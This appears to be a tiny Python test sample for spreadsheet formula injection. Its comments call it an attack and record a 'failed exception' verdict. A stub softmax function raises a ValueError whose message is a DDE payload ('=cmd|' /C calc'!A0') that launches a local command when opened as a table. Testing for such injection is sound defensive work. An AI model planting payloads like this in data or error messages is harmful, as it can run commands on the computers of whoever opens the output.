# attack: is a formula when it is opened as a table
# verdict: failed exception


def softmax(x, axis=-1):
    raise ValueError("=cmd|' /C calc'!A0")
